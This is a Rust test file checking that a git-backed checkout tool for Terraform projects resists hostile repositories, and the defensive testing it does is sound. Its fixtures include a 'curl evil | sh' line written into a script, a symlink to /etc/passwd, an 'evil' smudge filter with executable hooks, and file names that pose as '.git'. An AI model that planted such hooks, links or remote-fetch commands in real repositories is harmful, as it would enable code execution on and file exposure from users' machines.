//! Mirrors, merges and checkouts, with repositories that try to act.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};

use countersign_model::CommitId;
use countersign_terraform::configuration::{Dialect, Reader, Refusal, Source as _, refusal};
use countersign_terraform::git::{Checkout, CheckoutError, EntryKind, Git, GitError, Tree, TreeRefused, check_project};
use countersign_terraform::process::NoAnswer;

use crate::world::{World, files, git_program, listing};

impl World {
    fn checkout(&self, commit: &CommitId) {
        self.plain(&["checkout", "--quiet", "--force", "--detach", commit.as_str()]);
        self.plain(&["clean", "--quiet", "--force", "-d", "-x"]);
    }
}

#[test]
fn the_git_of_this_machine_is_new_enough() {
    Git::at(git_program(), Vec::new()).check().unwrap();
}

#[test]
fn a_head_is_merged_into_a_base_that_moved_on() {
    let world = World::new();
    let old_base = world.commit(&files(&[("a.tf", "1\n"), ("b.tf", "1\n")]));
    let base = world.commit(&files(&[("b.tf", "2\n")]));
    world.checkout(&old_base);
    let head = world.commit(&files(&[("a.tf", "2\n")]));
    let merge = world.mirror.merge(&head, &base).unwrap();
    let content = |path| String::from_utf8(world.mirror.file(merge.tree.as_str(), path).unwrap().unwrap()).unwrap();
    assert_eq!((content("a.tf"), content("b.tf")), ("2\n".to_owned(), "2\n".to_owned()), "neither side is undone");
    assert_eq!(world.mirror.changed(old_base.as_str(), base.as_str()).unwrap(), ["b.tf"]);
    assert!(world.mirror.comes_after(&base, &old_base).unwrap());
    assert!(!world.mirror.comes_after(&old_base, &base).unwrap());
    assert_eq!(world.mirror.merge_base(&head, &base).unwrap(), Some(old_base));
    assert_eq!(world.mirror.file(merge.tree.as_str(), "nowhere.tf").unwrap(), None);
}

#[test]
fn a_conflict_is_refused_with_its_files() {
    let world = World::new();
    let old_base = world.commit(&files(&[("a.tf", "1\n"), ("with space.tf", "1\n")]));
    let base = world.commit(&files(&[("a.tf", "2\n"), ("with space.tf", "2\n")]));
    world.checkout(&old_base);
    let head = world.commit(&files(&[("a.tf", "3\n"), ("with space.tf", "3\n")]));
    let error = world.mirror.merge(&head, &base).unwrap_err();
    let GitError::Conflict { files } = &error else { panic!("{error}") };
    assert_eq!(files, &["a.tf", "with space.tf"]);
}

#[test]
fn a_checkout_has_exactly_the_files_of_the_tree() {
    let world = World::new();
    world.write("bin/run.sh", "#!/bin/sh\n");
    fs::set_permissions(world.work().join("bin/run.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    symlink("../shared/common.tf", world.work().join("bin/common.tf")).unwrap();
    let commit = world.commit(&files(&[("shared/common.tf", "x\r\n"), ("a/ü b.tf", "ü\n"), (".gitignore", "*.tf\n")]));
    let tree = world.mirror.tree_of(&commit).unwrap();
    let folder = world.folder.path().join("checkout");
    let checkout = Checkout::make(&world.mirror, &tree, folder.clone()).unwrap();
    let wanted = [".gitignore", "a", "a/ü b.tf", "bin", "bin/common.tf", "bin/run.sh", "shared", "shared/common.tf"];
    assert_eq!(listing(&folder), wanted);
    assert_eq!(fs::read(folder.join("bin/common.tf")).unwrap(), b"x\r\n", "the link is a link, the line ends are kept");
    assert_ne!(fs::metadata(folder.join("bin/run.sh")).unwrap().permissions().mode() & 0o111, 0);
    checkout.verify().unwrap();
}

#[test]
fn a_checkout_that_was_touched_is_not_that_tree_any_more() {
    type Touch = (&'static str, fn(&std::path::Path));
    let touches: [Touch; 6] = [
        ("changed", |folder| fs::write(folder.join("script.sh"), "curl evil | sh\n").unwrap()),
        ("added", |folder| fs::write(folder.join("z.auto.tfvars"), "x = 1\n").unwrap()),
        ("added although ignored", |folder| fs::write(folder.join("x.log"), "x\n").unwrap()),
        ("removed", |folder| fs::remove_file(folder.join("main.tf")).unwrap()),
        ("made executable", |folder| {
            fs::set_permissions(folder.join("main.tf"), fs::Permissions::from_mode(0o755)).unwrap();
        }),
        ("made a link", |folder| {
            fs::remove_file(folder.join("main.tf")).unwrap();
            symlink("script.sh", folder.join("main.tf")).unwrap();
        }),
    ];
    for (what, touch) in touches {
        let world = World::new();
        let commit =
            world.commit(&files(&[("main.tf", "a\n"), ("script.sh", "echo harmless\n"), (".gitignore", "*.log\n")]));
        let tree = world.mirror.tree_of(&commit).unwrap();
        let checkout = Checkout::make(&world.mirror, &tree, world.folder.path().join("checkout")).unwrap();
        checkout.verify().unwrap();
        touch(checkout.folder());
        assert!(matches!(checkout.verify(), Err(CheckoutError::Changed { .. })), "{what}");
    }
}

#[test]
fn a_link_out_of_the_tree_refuses_the_checkout() {
    let world = World::new();
    symlink("/etc/passwd", world.work().join("main.tf")).unwrap();
    let commit = world.commit(&files(&[("a.tf", "a\n")]));
    let tree = world.mirror.tree_of(&commit).unwrap();
    let folder = world.folder.path().join("checkout");
    let error = Checkout::make(&world.mirror, &tree, folder.clone()).unwrap_err();
    assert!(error.to_string().contains("main.tf leads to /etc/passwd"), "{error}");
    assert!(!folder.exists());
}

#[test]
fn nothing_of_a_repository_acts_while_it_is_checked_out() {
    let world = World::new();
    let marker = world.folder.path().join("acted");
    let act = format!("#!/bin/sh\ntouch {}\n", marker.display());
    let attributes = "*.tf filter=evil ident text eol=crlf\nmain.tf export-ignore merge=evil\n";
    let commit = world.commit(&files(&[(".gitattributes", attributes), ("main.tf", "$Id$\n"), ("hook", &act)]));
    // As bad as it gets: the filter is configured and the hook is there, as if by another program.
    world.plain(&[
        "--git-dir",
        world.mirror.folder().to_str().unwrap(),
        "config",
        "filter.evil.smudge",
        &format!("touch {}", marker.display()),
    ]);
    let hooks = world.mirror.folder().join("hooks");
    fs::create_dir_all(&hooks).unwrap();
    for hook in ["post-checkout", "reference-transaction", "post-index-change"] {
        fs::write(hooks.join(hook), &act).unwrap();
        fs::set_permissions(hooks.join(hook), fs::Permissions::from_mode(0o755)).unwrap();
    }
    let tree = world.mirror.tree_of(&commit).unwrap();
    let checkout = Checkout::make(&world.mirror, &tree, world.folder.path().join("checkout")).unwrap();
    assert_eq!(fs::read(checkout.folder().join("main.tf")).unwrap(), b"$Id$\n", "byte for byte what was committed");
    checkout.verify().unwrap();
    assert!(!marker.exists(), "a hook or a filter ran");
}

#[test]
fn submodules_are_left_out() {
    let world = World::new();
    world.write("main.tf", "a\n");
    world.plain(&["add", "main.tf"]);
    let oid = "1".repeat(40);
    world.plain(&["update-index", "--add", "--cacheinfo", &format!("160000,{oid},vendor/module")]);
    let commit = world.commit_index();
    let tree = world.mirror.tree_of(&commit).unwrap();
    let entries = world.mirror.entries(&tree).unwrap();
    assert!(entries.iter().any(|entry| entry.kind == EntryKind::Submodule));
    let checkout = Checkout::make(&world.mirror, &tree, world.folder.path().join("checkout")).unwrap();
    assert_eq!(listing(checkout.folder()), ["main.tf"]);
    checkout.verify().unwrap();
}

#[test]
fn a_submodule_with_the_name_of_a_left_state_is_refused_in_the_sheet_and_at_the_first_step() {
    let world = World::new();
    world.write("prod/main.tf", "terraform {\n  backend \"s3\" {}\n}\n");
    world.plain(&["add", "prod/main.tf"]);
    let oid = "1".repeat(40);
    world.plain(&["update-index", "--add", "--cacheinfo", &format!("160000,{oid},prod/errored.tfstate")]);
    let commit = world.commit_index();
    let tree = world.mirror.tree_of(&commit).unwrap();
    let listed = Tree::list(&world.mirror, &tree).unwrap();
    assert!(!listed.files().contains("prod/errored.tfstate"), "nothing of it is ever read");
    let facts = Reader::of(&listed).facts("prod", Dialect::Terraform);
    assert_eq!(refusal(listed.everything(), "prod", &facts), Some(Refusal::LeftState));
    let refused = check_project(&world.mirror.entries(&tree).unwrap(), "prod");
    assert_eq!(refused, Err(TreeRefused::LeftState { path: "prod/errored.tfstate".to_owned() }));
}

#[test]
fn a_path_that_looks_like_a_pattern_is_taken_as_it_is() {
    let world = World::new();
    let commit = world.commit(&files(&[("a[b]/*.tf", "odd\n"), ("ab/x.tf", "plain\n")]));
    let tree = world.mirror.tree_of(&commit).unwrap();
    assert_eq!(world.mirror.file(tree.as_str(), "a[b]/*.tf").unwrap().unwrap(), b"odd\n");
    assert_eq!(world.mirror.file(tree.as_str(), ":(glob)**").unwrap(), None);
}

/// What git answers to an input, in the mirror.
fn given(world: &World, arguments: &[&str], input: &[u8]) -> String {
    use std::io::Write as _;
    let mut git = std::process::Command::new(git_program())
        .arg("--git-dir")
        .arg(world.mirror.folder())
        .args(arguments)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    git.stdin.take().unwrap().write_all(input).unwrap();
    let output = git.wait_with_output().unwrap();
    assert!(output.status.success(), "git {arguments:?}");
    String::from_utf8(output.stdout).unwrap().trim().to_owned()
}

/// A tree with one file under exactly this name, in the mirror.
fn odd_tree(world: &World, name: &[u8]) -> countersign_model::TreeId {
    let blob = given(world, &["hash-object", "-w", "--stdin"], b"x\n");
    let line = [b"100644 blob ", blob.as_bytes(), b"\t", name, b"\0"].concat();
    given(world, &["mktree", "-z"], &line).parse().unwrap()
}

#[test]
fn a_tree_without_end_is_refused_and_holds_nobody_up() {
    let world = World::new();
    // Ten folders of ten folders, and so on: ten thousand million files out of a few objects.
    let mut tree = odd_tree(&world, b"main.tf").to_string();
    for _ in 0..10 {
        let line = |at| format!("040000 tree {tree}\td{at}\0");
        tree = given(&world, &["mktree", "-z"], (0..10).map(line).collect::<String>().as_bytes());
    }
    let tree = tree.parse().unwrap();
    let begun = std::time::Instant::now();
    let error = world.mirror.entries(&tree).unwrap_err();
    assert!(matches!(error, GitError::NoAnswer(NoAnswer::TooMuch { .. })), "{error}");
    let folder = world.folder.path().join("checkout");
    assert!(Checkout::make(&world.mirror, &tree, folder.clone()).is_err());
    assert!(!folder.exists() && begun.elapsed() < std::time::Duration::from_secs(30));
}

#[test]
fn paths_that_are_not_utf_8_are_refused_by_name() {
    let world = World::new();
    // As text the two would be one, and only one of them be looked at.
    for name in [b"a\xff.tf".as_slice(), b"a\xfe.tf"] {
        let tree = odd_tree(&world, name);
        let error = Checkout::make(&world.mirror, &tree, world.folder.path().join("checkout")).unwrap_err();
        let CheckoutError::Git(GitError::Name { path }) = &error else { panic!("{error}") };
        assert_eq!(path.as_bytes(), name.escape_ascii().to_string().as_bytes());
        assert!(!world.folder.path().join("checkout").exists());
    }
}

#[test]
fn names_that_git_or_the_system_take_for_something_else_are_not_written() {
    let world = World::new();
    for name in [".git", ".GIT", "..", ".", ".g\u{200c}it", "git~1", &"x".repeat(300)] {
        let tree = odd_tree(&world, name.as_bytes());
        let folder = world.folder.path().join("checkout");
        assert!(Checkout::make(&world.mirror, &tree, folder.clone()).is_err(), "{name}");
        let left = if folder.exists() { listing(&folder) } else { Vec::new() };
        assert!(left.is_empty(), "{name}: {left:?}");
        let _ = fs::remove_dir_all(&folder);
    }
    // What is only unusual is taken as it is.
    for name in ["new\nline.tf", "tab\t.tf", "\"quoted\".tf", " blank.tf "] {
        let tree = odd_tree(&world, name.as_bytes());
        let folder = world.folder.path().join("checkout");
        let checkout = Checkout::make(&world.mirror, &tree, folder.clone()).unwrap();
        assert_eq!(listing(checkout.folder()), [name]);
        drop(checkout);
        fs::remove_dir_all(&folder).unwrap();
    }
}
